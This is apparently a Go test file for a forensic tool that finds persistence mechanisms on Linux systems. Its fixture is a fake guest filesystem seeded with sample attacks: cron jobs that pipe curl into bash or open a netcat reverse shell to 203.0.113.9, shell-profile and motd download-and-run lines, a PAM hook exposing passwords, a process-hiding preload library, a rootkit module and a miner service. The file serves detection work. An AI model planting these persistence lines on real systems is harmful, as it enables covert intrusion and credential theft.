package persistence

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/coldcase-dfir/coldcase/artifacts"
	"github.com/coldcase-dfir/coldcase/timeline"
)

var t0 = time.Date(2026, 5, 6, 7, 8, 9, 0, time.UTC)

func mf(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s), Mode: 0o644, ModTime: t0} }

func link(target string) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte(target), Mode: fs.ModeSymlink | 0o777, ModTime: t0}
}

// files of a small guest; the same content is written to a real folder
// for the os.DirFS test.
var guestFiles = map[string]string{
	"etc/passwd": "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
	"etc/crontab": `SHELL=/bin/sh
PATH=/usr/bin:/bin
# m h dom mon dow user command
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
@reboot root /usr/local/bin/start.sh
bad line here
`,
	"etc/cron.d/backdoor":                                "*/5 * * * * root curl -s http://203.0.113.9/x | bash\n",
	"var/spool/cron/crontabs/alice":                      "MAILTO=\"\"\n0 3 * * 1 /home/alice/backup.sh\n",
	"var/spool/cron/crontabs/mallory":                    "* * * * * nc -e /bin/sh 203.0.113.9 4444\n",
	"etc/cron.daily/logrotate":                           "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
	"etc/cron.hourly/update":                             "#!/bin/sh\nwget -q -O /tmp/.u http://x/u && sh /tmp/.u\n",
	"etc/anacrontab":                                     "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n",
	"var/spool/cron/atjobs/a0000201c4b2a0":               "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\necho hi > /tmp/at\nmarcinDELIMITER1\n",
	"etc/systemd/system/evil.service":                    "[Unit]\nDescription=Totally legit\n[Service]\nExecStart=/opt/.x/agent \\\n  --daemon\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n",
	"usr/lib/systemd/system/ssh.service":                 "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n[Install]\nWantedBy=multi-user.target\n",
	"usr/lib/systemd/system/getty@.service":              "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n",
	"usr/lib/systemd/system/fstrim.timer":                "[Timer]\nOnCalendar=weekly\nPersistent=true\n",
	"usr/lib/systemd/system/ssh.service.d/override.conf": "[Service]\nExecStart=\nExecStart=/dev/shm/sshd\n",
	"home/alice/.config/systemd/user/miner.service":      "[Service]\nExecStart=%h/.local/bin/xmrig\n",
	"etc/init.d/oldsvc":                                  "#!/bin/sh\n# legacy\n/usr/bin/python3 -c 'import pty'\n",
	"etc/init.d/plain":                                   "#!/bin/sh\nexit 0\n",
	"etc/rc.local":                                       "#!/bin/sh -e\n/root/.hidden/run &\nexit 0\n",
	"etc/ld.so.preload":                                  "/lib/x86_64-linux-gnu/libprocesshider.so\n",
	"etc/profile.d/proxy.sh":                             "export http_proxy=http://proxy:3128\n",
	"home/alice/.bashrc":                                 "alias ll='ls -l'\n(curl -fsSL http://x/k | sh) >/dev/null 2>&1 &\n",
	"etc/udev/rules.d/99-usb.rules":                      "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/sh -c 'echo $env{ID} >> /tmp/usb'\"\n",
	"etc/modules":                                        "# modules\nloop\ndiamorphine\n",
	"etc/modules-load.d/x.conf":                          "br_netfilter\n",
	"etc/modprobe.d/evil.conf":                           "options loop max_loop=8\ninstall usb-storage /sbin/modprobe --ignore-install usb-storage; /tmp/x\n",
	"etc/systemd/system-generators/gen":                  "#!/bin/sh\n/var/tmp/g &\n",
	"home/alice/.config/autostart/upd.desktop":           "[Desktop Entry]\nType=Application\nName=Updater\nExec=/home/alice/.local/upd --quiet\n",
	"etc/update-motd.d/99-x":                             "#!/bin/sh\ncurl -s http://x/m | sh\n",
	"etc/apt/apt.conf.d/01hook":                          "APT::Update::Pre-Invoke {\"nohup /tmp/.a >/dev/null 2>&1 &\"; \"true\";};\n// DPkg::Post-Invoke {\"x\";};\n",
	"etc/pam.d/common-auth":                              "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log.sh\nauth required pam_unix.so\n",
}

// links are symlinks of the guest: wants links enabling units, an rc2.d
// link, a masked unit.
var guestLinks = map[string]string{
	"etc/systemd/system/multi-user.target.wants/evil.service":            "/etc/systemd/system/evil.service",
	"etc/systemd/system/multi-user.target.wants/ssh.service":             "/lib/systemd/system/ssh.service",
	"etc/systemd/system/getty.target.wants/getty@tty1.service":           "/lib/systemd/system/getty@.service",
	"etc/systemd/system/ctrl-alt-del.target":                             "/dev/null",
	"etc/systemd/system/masked.service":                                  "/dev/null",
	"home/alice/.config/systemd/user/default.target.wants/miner.service": "/home/alice/.config/systemd/user/miner.service",
	"etc/rc2.d/S01oldsvc":                                                "../init.d/oldsvc",
	"etc/systemd/system/sshd.service":                                    "/usr/lib/systemd/system/ssh.service",
}

func mapGuest() fstest.MapFS {
	m := fstest.MapFS{}
	for p, s := range guestFiles {
		m[p] = mf(s)
	}
	for p, t := range guestLinks {
		m[p] = link(t)
	}
	return m
}

func extract(t *testing.T, fsys fs.FS) (*Report, []timeline.Event, []artifacts.Warning) {
	t.Helper()
	env := &artifacts.Env{FS: fsys, Zone: time.UTC}
	var c timeline.Collect
	env.Events = &c
	rep, err := Extract(context.Background(), env)
	if err != nil {
		t.Fatal(err)
	}
	return rep, c.Events, env.Warnings()
}

func find(rep *Report, kind, file string, line int64) *Entry {
	for i, e := range rep.Entries {
		if e.Kind == kind && e.File == file && (line == 0 || e.Line == line) {
			return &rep.Entries[i]
		}
	}
	return nil
}

func checkGuest(t *testing.T, rep *Report, evs []timeline.Event, warns []artifacts.Warning) {
	t.Helper()
	e := find(rep, KindCron, "/etc/crontab", 4)
	if e == nil || e.Schedule != "17 * * * *" || e.Owner != "root" || e.Command != "cd / && run-parts --report /etc/cron.hourly" {
		t.Errorf("crontab line 4: %+v", e)
	}
	if e := find(rep, KindCron, "/etc/crontab", 5); e == nil || e.Schedule != "@reboot" || e.Command != "/usr/local/bin/start.sh" {
		t.Errorf("@reboot: %+v", e)
	}
	if !slices.ContainsFunc(warns, func(w artifacts.Warning) bool { return w.Path == "/etc/crontab" && w.Line == 6 }) {
		t.Errorf("no warning for crontab line 6: %v", warns)
	}
	if e := find(rep, KindCron, "/etc/cron.d/backdoor", 1); e == nil || !slices.Equal(e.Indicators, []string{"download", "pipe_shell"}) {
		t.Errorf("cron.d: %+v", e)
	}
	if e := find(rep, KindCron, "/var/spool/cron/crontabs/alice", 2); e == nil || e.Owner != "alice" || len(e.Flags) != 0 || e.Schedule != "0 3 * * 1" {
		t.Errorf("alice spool: %+v", e)
	}
	if e := find(rep, KindCron, "/var/spool/cron/crontabs/mallory", 1); e == nil || !slices.Equal(e.Flags, []string{FlagUnknownOwner}) || !slices.Contains(e.Indicators, "netcat") {
		t.Errorf("mallory spool: %+v", e)
	}
	if e := find(rep, KindCronScript, "/etc/cron.hourly/update", 0); e == nil || e.Schedule != "hourly" || !slices.Equal(e.Indicators, []string{"download", "temp_path", "hidden_path"}) {
		t.Errorf("cron.hourly: %+v", e)
	}
	if e := find(rep, KindAnacron, "/etc/anacrontab", 3); e == nil || e.Schedule != "period @monthly 15" || e.Details["job_id"] != "cron.monthly" || e.Command != "run-parts /etc/cron.monthly" {
		t.Errorf("anacron: %+v", e)
	}
	at := find(rep, KindAt, "/var/spool/cron/atjobs/a0000201c4b2a0", 0)
	// 0x1c4b2a0 minutes: `date -u -d @$((0x1c4b2a0*60)) +%FT%H:%MZ` prints 2026-05-29T18:40Z
	if at == nil || at.Command != "echo hi > /tmp/at" || at.Owner != "alice" || at.Schedule != "2026-05-29T18:40Z" || at.Details["job"] != "2" || at.Line != 10 {
		t.Errorf("at: %+v", at)
	}

	evil := find(rep, KindService, "/etc/systemd/system/evil.service", 0)
	if evil == nil || evil.Command != "/opt/.x/agent  --daemon" || evil.Owner != "nobody" || evil.Enabled == nil || !*evil.Enabled ||
		!slices.Equal(evil.WantedBy, []string{"multi-user.target"}) || !slices.Equal(evil.Flags, []string{FlagExecOutsideUsr, FlagAdminAdded}) ||
		evil.Details["Description"] != "Totally legit" || !slices.Contains(evil.Indicators, "hidden_path") {
		t.Errorf("evil.service: %+v", evil)
	}
	ssh := find(rep, KindService, "/usr/lib/systemd/system/ssh.service", 0)
	if ssh == nil || !*ssh.Enabled || len(ssh.Flags) != 0 || ssh.Details["ExecStartPre"] != "/usr/sbin/sshd -t" || ssh.Owner != "root" {
		t.Errorf("ssh.service: %+v", ssh)
	}
	if g := find(rep, KindService, "/usr/lib/systemd/system/getty@.service", 0); g == nil || !*g.Enabled || !slices.Equal(g.WantedBy, []string{"getty.target"}) || len(g.Flags) != 0 {
		t.Errorf("getty@: %+v", g)
	}
	if tm := find(rep, KindTimer, "/usr/lib/systemd/system/fstrim.timer", 0); tm == nil || tm.Schedule != "OnCalendar=weekly" || tm.Command != "fstrim.service" || *tm.Enabled {
		t.Errorf("timer: %+v", tm)
	}
	if d := find(rep, KindDropIn, "/usr/lib/systemd/system/ssh.service.d/override.conf", 0); d == nil || d.Unit != "ssh.service" || d.Command != "/dev/shm/sshd" ||
		!slices.Contains(d.Flags, FlagExecOutsideUsr) || len(d.UnitFile.Sections["Service"]["ExecStart"]) != 2 || !slices.Equal(d.WantedBy, []string{"multi-user.target"}) {
		t.Errorf("drop-in: %+v", d)
	}
	if a := find(rep, KindService, "/etc/systemd/system/sshd.service", 0); a == nil || len(a.Flags) != 0 || a.Details["link_target"] != "/usr/lib/systemd/system/ssh.service" || a.Command != "/usr/sbin/sshd -D $SSHD_OPTS" {
		t.Errorf("alias: %+v", a)
	}
	if m := find(rep, KindService, "/etc/systemd/system/masked.service", 0); m == nil || !slices.Equal(m.Flags, []string{FlagMasked}) {
		t.Errorf("masked: %+v", m)
	}
	if u := find(rep, KindService, "/home/alice/.config/systemd/user/miner.service", 0); u == nil || u.Owner != "alice" || !*u.Enabled || !slices.Contains(u.Flags, FlagAdminAdded) {
		t.Errorf("user unit: %+v", u)
	}

	if s := find(rep, KindSysV, "/etc/init.d/oldsvc", 0); s == nil || !*s.Enabled || s.Details["runlevels"] != "2" || !slices.Equal(s.Indicators, []string{"inline_code"}) {
		t.Errorf("sysv oldsvc: %+v", s)
	}
	if s := find(rep, KindSysV, "/etc/init.d/plain", 0); s == nil || *s.Enabled {
		t.Errorf("sysv plain: %+v", s)
	}
	if r := find(rep, KindRcLocal, "/etc/rc.local", 2); r == nil || r.Command != "/root/.hidden/run &" || len(rep.filter(KindRcLocal)) != 1 {
		t.Errorf("rc.local: %+v", rep.filter(KindRcLocal))
	}
	if p := find(rep, KindPreload, "/etc/ld.so.preload", 1); p == nil || p.Command != "/lib/x86_64-linux-gnu/libprocesshider.so" {
		t.Errorf("preload: %+v", p)
	}
	if ps := rep.filter(KindProfile); len(ps) != 1 || ps[0].File != "/home/alice/.bashrc" || ps[0].Line != 2 || ps[0].Owner != "alice" || ps[0].Schedule != "interactive shell" {
		t.Errorf("profiles: %+v", ps)
	}
	if u := find(rep, KindUdev, "/etc/udev/rules.d/99-usb.rules", 1); u == nil || u.Command != `/bin/sh -c 'echo $env{ID} >> /tmp/usb'` ||
		u.Schedule != `udev: ACTION=="add", SUBSYSTEM=="usb"` || !slices.Contains(u.Flags, FlagAdminAdded) {
		t.Errorf("udev: %+v", u)
	}
	var mods []string
	for _, m := range rep.filter(KindModule) {
		mods = append(mods, m.Details["module"])
	}
	if !slices.Equal(mods, []string{"loop", "diamorphine", "br_netfilter"}) {
		t.Errorf("modules %v", mods)
	}
	if m := find(rep, KindModprobeRun, "/etc/modprobe.d/evil.conf", 2); m == nil || m.Command != "/sbin/modprobe --ignore-install usb-storage; /tmp/x" || m.Details["module"] != "usb-storage" {
		t.Errorf("modprobe install: %+v", m)
	}

	if g := find(rep, KindGenerator, "/etc/systemd/system-generators/gen", 0); g == nil || !slices.Equal(g.Flags, []string{FlagAdminAdded}) || !slices.Contains(g.Indicators, "temp_path") {
		t.Errorf("generator: %+v", g)
	}
	if a := find(rep, KindAutostart, "/home/alice/.config/autostart/upd.desktop", 0); a == nil || a.Command != "/home/alice/.local/upd --quiet" || a.Owner != "alice" || a.Details["Name"] != "Updater" {
		t.Errorf("autostart: %+v", a)
	}
	if m := find(rep, KindMotd, "/etc/update-motd.d/99-x", 0); m == nil || !slices.Equal(m.Indicators, []string{"download", "pipe_shell"}) {
		t.Errorf("motd: %+v", m)
	}
	if hs := rep.filter(KindAptHook); len(hs) != 2 || hs[0].Command != "nohup /tmp/.a >/dev/null 2>&1 &" || hs[0].Schedule != "apt APT::Update::Pre-Invoke" || hs[1].Command != "true" || hs[0].Line != 1 {
		t.Errorf("apt hooks: %+v", hs)
	}
	if p := find(rep, KindPamExec, "/etc/pam.d/common-auth", 1); p == nil || p.Command != "/usr/local/bin/log.sh" || p.Schedule != "PAM common-auth auth" {
		t.Errorf("pam_exec: %+v", p)
	}
	var cronEv, unitEv int
	for _, e := range evs {
		switch e.TimestampDesc {
		case DescCronModified:
			cronEv++
		case DescUnitModified:
			unitEv++
		}
		if e.Path == "/etc/cron.d/backdoor" && (!e.Time.Equal(t0) || e.Source != SourceCron || e.Evidence.Path != "/etc/cron.d/backdoor") {
			t.Errorf("cron.d event %+v", e)
		}
	}
	// crontab, cron.d, 2 spools, anacrontab, 2 cron scripts, at job.
	if cronEv != 8 || unitEv != 7 { // 6 unit files and the generator; the alias resolves to ssh.service, already counted
		t.Errorf("%d cron file events, %d unit file events", cronEv, unitEv)
	}
}

func (r *Report) filter(kind string) []Entry {
	var out []Entry
	for _, e := range r.Entries {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

func TestExtractMapFS(t *testing.T) {
	rep, evs, warns := extract(t, mapGuest())
	checkGuest(t, rep, evs, warns)
}

// TestExtractDirFS runs on a real folder with real symlinks (os.DirFS),
// including a merged-/usr /lib link that must not double the units.
func TestExtractDirFS(t *testing.T) {
	root := t.TempDir()
	for p, s := range guestFiles {
		full := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
		os.Chtimes(full, t0, t0)
	}
	for p, target := range guestLinks {
		full := filepath.Join(root, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.Symlink(target, full); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("usr/lib", filepath.Join(root, "lib")); err != nil {
		t.Fatal(err)
	}
	rep, evs, warns := extract(t, os.DirFS(root))
	checkGuest(t, rep, evs, warns)
	// The wants links' targets are read back.
	for _, e := range rep.Entries {
		if e.File == "/etc/systemd/system/evil.service" && !strings.HasPrefix(e.FileMeta.Mode, "-") {
			t.Errorf("mode %s", e.FileMeta.Mode)
		}
	}
}
